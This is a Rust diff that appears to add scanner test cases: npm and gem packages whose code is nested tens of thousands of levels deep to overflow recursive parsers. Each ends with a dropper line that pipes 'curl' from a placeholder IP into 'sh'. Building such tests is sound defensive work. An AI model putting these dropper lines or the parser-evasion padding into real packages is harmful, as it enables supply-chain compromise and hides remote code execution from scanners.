@@ -90,6 +90,12 @@ pub fn cases(scale: Scale) -> Vec<Case> {
         "deep-shell-1.0.tar.gz",
         gzip_plain(&tar(&deep_shell(lines))),
     ));
+    for (name, source) in deep_js() {
+        out.push(case(&format!("{name}-1.0.tgz"), npm_package(name, &source)));
+    }
+    for (name, source) in deep_ruby() {
+        out.push(case(&format!("{name}-1.0.gem"), gem_package(name, &source)));
+    }
     out
 }
 
@@ -217,6 +223,91 @@ fn deep_sources(line_bytes: usize) -> Vec<(&'static str, String)> {
         ),
         ("huge-line", format!("{huge_line}{DROPPER_LINE}")),
     ]
+}
+
+/// The JavaScript dropper line every JavaScript case ends with.
+pub const JS_DROPPER_LINE: &str =
+    "require('child_process').exec('curl -fsSL http://192.0.2.1/x | sh');\n";
+
+/// JavaScript sources built to overflow recursive walkers, the dropper on line 2.
+fn deep_js() -> Vec<(&'static str, String)> {
+    let n = 50_000;
+    vec![
+        (
+            "js-deep-parens",
+            format!(
+                "x = {}1{};\n{JS_DROPPER_LINE}",
+                "(".repeat(n),
+                ")".repeat(n)
+            ),
+        ),
+        (
+            "js-deep-arrays",
+            format!(
+                "x = {}{};\n{JS_DROPPER_LINE}",
+                "[".repeat(2 * n),
+                "]".repeat(2 * n)
+            ),
+        ),
+        (
+            "js-long-concat",
+            format!("x = {}a;\n{JS_DROPPER_LINE}", "a + ".repeat(4 * n)),
+        ),
+        (
+            "js-deep-calls",
+            format!("x = f{};\n{JS_DROPPER_LINE}", "()".repeat(4 * n)),
+        ),
+    ]
+}
+
+/// An npm tarball: `package/package.json` and `package/index.js` = `source`.
+fn npm_package(name: &str, source: &str) -> Vec<u8> {
+    let manifest =
+        format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"main\": \"index.js\"}}\n");
+    gzip_plain(&tar(&[
+        file("package/package.json", manifest.as_bytes()),
+        file("package/index.js", source.as_bytes()),
+    ]))
+}
+
+/// The Ruby dropper line every Ruby case ends with.
+pub const RUBY_DROPPER_LINE: &str = "system('curl -fsSL http://192.0.2.1/x | sh')\n";
+
+/// Ruby sources built to overflow recursive walkers, the dropper on line 2.
+fn deep_ruby() -> Vec<(&'static str, String)> {
+    let n = 50_000;
+    vec![
+        (
+            "rb-deep-parens",
+            format!(
+                "x = {}1{}\n{RUBY_DROPPER_LINE}",
+                "(".repeat(n),
+                ")".repeat(n)
+            ),
+        ),
+        (
+            "rb-deep-arrays",
+            format!(
+                "x = {}{}\n{RUBY_DROPPER_LINE}",
+                "[".repeat(2 * n),
+                "]".repeat(2 * n)
+            ),
+        ),
+        (
+            "rb-long-concat",
+            format!("x = {}a\n{RUBY_DROPPER_LINE}", "a + ".repeat(4 * n)),
+        ),
+    ]
+}
+
+/// A gem whose `lib/<name>.rb` (loaded on require) is `source`.
+fn gem_package(name: &str, source: &str) -> Vec<u8> {
+    let metadata = format!("--- !ruby/object:Gem::Specification\nname: {name}\nversion: !ruby/object:Gem::Version\n  version: 1.0\n");
+    let data = gzip_plain(&tar(&[file(&format!("lib/{name}.rb"), source.as_bytes())]));
+    tar(&[
+        file("metadata.gz", &gzip_plain(metadata.as_bytes())),
+        file("data.tar.gz", &data),
+    ])
 }
 
 /// A package whose install script is one enormous shell line and deeply nested substitutions.
